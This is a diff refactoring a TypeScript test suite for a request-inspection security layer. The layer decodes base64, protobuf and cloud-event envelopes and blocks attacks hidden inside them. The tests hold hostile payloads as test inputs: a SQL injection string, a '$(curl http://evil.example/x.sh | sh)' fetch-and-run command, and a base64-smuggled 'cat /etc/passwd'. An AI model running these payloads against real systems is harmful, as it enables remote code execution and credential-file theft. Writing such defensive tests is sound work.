@@ -6,7 +6,7 @@
  * real `@azure/functions` HttpRequest and the real functions-framework server. Envelopes written for
  * this project from the documented shapes.
  */
-import t from 'tap';
+import t, { type Test } from 'tap';
 import { randomUUID } from 'node:crypto';
 import type { AddressInfo } from 'node:net';
 import { gzipSync } from 'node:zlib';
@@ -229,46 +229,52 @@ function logs() {
   return { lines, log: (line: string) => lines.push(JSON.parse(line) as SecurityEvent) };
 }
 
+/** Runs `body` once per transport, on a protected handler of its own that logs into `lines`. */
+async function eachTransport(
+  t: Test,
+  options: Partial<ProtectOptions>,
+  body: (t: Test, h: Awaited<ReturnType<Transport['make']>>, lines: SecurityEvent[], log: (line: string) => void, tr: Transport) => Promise<void>,
+): Promise<void> {
+  for (const tr of TRANSPORTS) {
+    await t.test(tr.name, async (t) => {
+      const { lines, log } = logs();
+      const h = await tr.make({ ...options, log } as ProtectOptions);
+      t.teardown(h.close);
+      await body(t, h, lines, log, tr);
+    });
+  }
+}
+
 const under = (path: string, prefix: string): boolean => path === prefix || path.startsWith(`${prefix}.`) || path.startsWith(`${prefix}[`);
 
 // ---------------------------------------------------------------------------------------------------
 
 t.test('an attack inside the encoded payload is blocked, with the decoded path, on every provider', async (t) => {
-  for (const tr of TRANSPORTS) {
-    t.test(tr.name, async (t) => {
-      const { lines, log } = logs();
-      const h = await tr.make({ log });
-      t.teardown(h.close);
-      for (const c of CASES) {
-        for (const a of ATTACKS) {
-          const before = lines.length;
-          const r = await h.send(c.build(a.payload));
-          t.equal(r.status, 403, `${c.name}: ${a.class} ${a.payload}`);
-          const ev = lines[before];
-          t.ok(ev?.findings.some((f) => under(f.path, c.where)), `${c.name}: reported under ${c.where} (got ${ev?.findings.map((f) => f.path).join(', ')})`);
-        }
+  await eachTransport(t, {}, async (t, h, lines, log) => {
+    for (const c of CASES) {
+      for (const a of ATTACKS) {
+        const before = lines.length;
+        const r = await h.send(c.build(a.payload));
+        t.equal(r.status, 403, `${c.name}: ${a.class} ${a.payload}`);
+        const ev = lines[before];
+        t.ok(ev?.findings.some((f) => under(f.path, c.where)), `${c.name}: reported under ${c.where} (got ${ev?.findings.map((f) => f.path).join(', ')})`);
       }
-    });
-  }
+    }
+  });
 });
 
 t.test('benign envelopes reach the handler byte for byte, without a security event', async (t) => {
-  for (const tr of TRANSPORTS) {
-    t.test(tr.name, async (t) => {
-      const { lines, log } = logs();
-      const h = await tr.make({ log });
-      t.teardown(h.close);
-      for (const c of CASES) {
-        for (const text of BENIGN) {
-          const p = c.build(text);
-          const r = await h.send(p);
-          t.equal(r.status, 200, `${c.name}: ${text}`);
-          t.equal(r.seen, p.body, 'the handler read the envelope as sent');
-        }
+  await eachTransport(t, {}, async (t, h, lines, log) => {
+    for (const c of CASES) {
+      for (const text of BENIGN) {
+        const p = c.build(text);
+        const r = await h.send(p);
+        t.equal(r.status, 200, `${c.name}: ${text}`);
+        t.equal(r.seen, p.body, 'the handler read the envelope as sent');
       }
-      t.same(lines, [], 'no security events');
-    });
-  }
+    }
+    t.same(lines, [], 'no security events');
+  });
 });
 
 /** A small protobuf message (field 1: string, 2: varint, 3: string, 4: fixed64), as a publisher's schema encodes it. */
@@ -324,54 +330,39 @@ t.test('platform envelopes and binary payloads pass: validation handshakes, gzip
   for (let i = 0; i < 40; i++) posts.push([`Pub/Sub push, protobuf #${i}`, json(pubsubPush(b64(protobuf(`BK-${1040 + i}`, i + 1, `gift wrap, deliver to door ${i}`))))]);
   for (let i = 0; i < 40; i++) posts.push([`Pub/Sub push, encrypted bytes #${i}`, json(pubsubPush(b64(bytes(i + 1, 48 + i * 61))))]);
   for (let i = 0; i < 10; i++) posts.push([`CloudEvent, binary data_base64 #${i}`, { contentType: 'application/cloudevents+json', body: JSON.stringify(cloudEvent({ datacontenttype: 'application/octet-stream', data_base64: b64(bytes(100 + i, 512)) })) }]);
-  for (const tr of TRANSPORTS) {
-    t.test(tr.name, async (t) => {
-      const { lines, log } = logs();
-      const h = await tr.make({ log });
-      t.teardown(h.close);
-      for (const [what, p] of posts) {
-        const r = await h.send(p);
-        t.equal(r.status, 200, what);
-        t.equal(r.seen, p.body, `${what}: unchanged`);
-      }
-      t.same(lines, [], 'no security events');
-    });
-  }
+  await eachTransport(t, {}, async (t, h, lines, log) => {
+    for (const [what, p] of posts) {
+      const r = await h.send(p);
+      t.equal(r.status, 200, what);
+      t.equal(r.seen, p.body, `${what}: unchanged`);
+    }
+    t.same(lines, [], 'no security events');
+  });
 });
 
 t.test('binary payloads: their text runs are inspected (a protobuf string field, text padded with junk)', async (t) => {
   const attack = "x'; DROP TABLE customers; --";
   const junk = Buffer.concat([Buffer.from(attack), bytes(9, 12)]);
-  for (const tr of TRANSPORTS) {
-    t.test(tr.name, async (t) => {
-      const { lines, log } = logs();
-      const h = await tr.make({ log });
-      t.teardown(h.close);
-      for (const [what, data] of [['protobuf', protobuf('BK-1042', 2, attack)], ['junk-padded text', junk]] as const) {
-        t.equal((await h.send(json(pubsubPush(b64(data))))).status, 403, what);
-        t.ok(lines.at(-1)?.findings.some((f) => f.class === 'sqli' && under(f.path, 'body.message.data["#base64"]')), `${what}: ${lines.at(-1)?.where}`);
-      }
-    });
-  }
+  await eachTransport(t, {}, async (t, h, lines, log) => {
+    for (const [what, data] of [['protobuf', protobuf('BK-1042', 2, attack)], ['junk-padded text', junk]] as const) {
+      t.equal((await h.send(json(pubsubPush(b64(data))))).status, 403, what);
+      t.ok(lines.at(-1)?.findings.some((f) => f.class === 'sqli' && under(f.path, 'body.message.data["#base64"]')), `${what}: ${lines.at(-1)?.where}`);
+    }
+  });
 });
 
 t.test('monitor mode: the handler gets the envelope, the event says monitor', async (t) => {
-  for (const tr of TRANSPORTS) {
-    t.test(tr.name, async (t) => {
-      const { lines, log } = logs();
-      const h = await tr.make({ log, mode: 'monitor' });
-      t.teardown(h.close);
-      for (const c of CASES) {
-        const p = c.build('$(curl http://evil.example/x.sh | sh)');
-        const r = await h.send(p);
-        t.equal(r.status, 200, c.name);
-        t.equal(r.seen, p.body);
-      }
-      t.equal(lines.length, CASES.length);
-      t.ok(lines.every((l) => l.action === 'monitor'));
-      t.ok(lines.every((l, i) => l.findings.some((f) => under(f.path, CASES[i]!.where))), 'with the decoded paths');
-    });
-  }
+  await eachTransport(t, { mode: 'monitor' }, async (t, h, lines, log) => {
+    for (const c of CASES) {
+      const p = c.build('$(curl http://evil.example/x.sh | sh)');
+      const r = await h.send(p);
+      t.equal(r.status, 200, c.name);
+      t.equal(r.seen, p.body);
+    }
+    t.equal(lines.length, CASES.length);
+    t.ok(lines.every((l) => l.action === 'monitor'));
+    t.ok(lines.every((l, i) => l.findings.some((f) => under(f.path, CASES[i]!.where))), 'with the decoded paths');
+  });
 });
 
 t.test('malformed encodings: a clear result, never a crash', async (t) => {
@@ -379,47 +370,42 @@ t.test('malformed encodings: a clear result, never a crash', async (t) => {
   // What a handler's `Buffer.from(data, 'base64')` reads: it skips characters outside the alphabet.
   const smuggled = b64(attack).replace(/(.{6})/g, '$1!');
   t.equal(Buffer.from(smuggled, 'base64').toString(), attack, 'the lenient decoder a handler uses reads the attack');
-  for (const tr of TRANSPORTS) {
-    t.test(tr.name, async (t) => {
-      const { lines, log } = logs();
-      const h = await tr.make({ log });
-      t.teardown(h.close);
-      const strict = await tr.make({ log, paranoia: 2 });
-      t.teardown(strict.close);
+  await eachTransport(t, {}, async (t, h, lines, log, tr) => {
+    const strict = await tr.make({ log, paranoia: 2 });
+    t.teardown(strict.close);
 
-      t.equal((await h.send(json(pubsubPush(smuggled)))).status, 403, 'an attack behind characters a strict decoder refuses');
-      t.equal(lines.at(-1)?.where, 'body.message.data["#base64"]');
+    t.equal((await h.send(json(pubsubPush(smuggled)))).status, 403, 'an attack behind characters a strict decoder refuses');
+    t.equal(lines.at(-1)?.where, 'body.message.data["#base64"]');
 
-      const odd = json(pubsubPush('not base64 at all, just words'));
-      const r = await h.send(odd);
-      t.equal(r.status, 200, 'invalid base64 with nothing in it passes at paranoia 1');
-      t.equal(r.seen, odd.body);
-      t.equal((await strict.send(odd)).status, 403, 'at paranoia 2 it is a protocol finding');
-      t.equal(lines.at(-1)?.rule, 'protocol.invalid-base64');
-      t.equal(lines.at(-1)?.where, 'body.message.data');
+    const odd = json(pubsubPush('not base64 at all, just words'));
+    const r = await h.send(odd);
+    t.equal(r.status, 200, 'invalid base64 with nothing in it passes at paranoia 1');
+    t.equal(r.seen, odd.body);
+    t.equal((await strict.send(odd)).status, 403, 'at paranoia 2 it is a protocol finding');
+    t.equal(lines.at(-1)?.rule, 'protocol.invalid-base64');
+    t.equal(lines.at(-1)?.where, 'body.message.data');
 
-      const weird: Post[] = [
-        json(JSON.stringify({ message: { data: 42 }, subscription: 'projects/p/subscriptions/s' })),
-        json(JSON.stringify({ message: null, subscription: 'projects/p/subscriptions/s' })),
-        json(JSON.stringify({ message: { data: '' }, subscription: 'projects/p/subscriptions/s' })),
-        json(JSON.stringify({ message: { data: b64('ok') }, subscription: 7 })),
-        json(JSON.stringify([])),
-        json(JSON.stringify([cloudEvent({ data_base64: null }), 5, null, 'x'])),
-        { contentType: 'application/cloudevents+json', body: JSON.stringify(cloudEvent({ data_base64: '====' })) },
-        { contentType: 'text/plain', body: JSON.stringify({ Type: 'Notification', TopicArn: SNS_TOPIC, Message: 'x', MessageAttributes: { a: null, b: { Type: 'Binary' }, c: { Type: 'Binary', Value: 5 } } }) },
-      ];
-      for (const p of weird) {
-        const w = await h.send(p);
-        t.equal(w.status, 200, p.body.slice(0, 60));
-        t.equal(w.seen, p.body);
-      }
-      const n = lines.length;
-      // Not an envelope, but base64 text in any string value is read decoded (engine.ts, base64Text).
-      t.equal((await h.send(json(JSON.stringify({ message: { data: b64('; cat /etc/passwd') } })))).status, 403, 'no subscription, base64 text still read');
-      t.equal(lines.length, n + 1);
-      t.equal(lines[n]?.where, 'body.message.data["#base64"]');
-    });
-  }
+    const weird: Post[] = [
+      json(JSON.stringify({ message: { data: 42 }, subscription: 'projects/p/subscriptions/s' })),
+      json(JSON.stringify({ message: null, subscription: 'projects/p/subscriptions/s' })),
+      json(JSON.stringify({ message: { data: '' }, subscription: 'projects/p/subscriptions/s' })),
+      json(JSON.stringify({ message: { data: b64('ok') }, subscription: 7 })),
+      json(JSON.stringify([])),
+      json(JSON.stringify([cloudEvent({ data_base64: null }), 5, null, 'x'])),
+      { contentType: 'application/cloudevents+json', body: JSON.stringify(cloudEvent({ data_base64: '====' })) },
+      { contentType: 'text/plain', body: JSON.stringify({ Type: 'Notification', TopicArn: SNS_TOPIC, Message: 'x', MessageAttributes: { a: null, b: { Type: 'Binary' }, c: { Type: 'Binary', Value: 5 } } }) },
+    ];
+    for (const p of weird) {
+      const w = await h.send(p);
+      t.equal(w.status, 200, p.body.slice(0, 60));
+      t.equal(w.seen, p.body);
+    }
+    const n = lines.length;
+    // Not an envelope, but base64 text in any string value is read decoded (engine.ts, base64Text).
+    t.equal((await h.send(json(JSON.stringify({ message: { data: b64('; cat /etc/passwd') } })))).status, 403, 'no subscription, base64 text still read');
+    t.equal(lines.length, n + 1);
+    t.equal(lines[n]?.where, 'body.message.data["#base64"]');
+  });
 });
 
 t.test('limits: a payload that decodes past maxBytes is a limits finding', async (t) => {
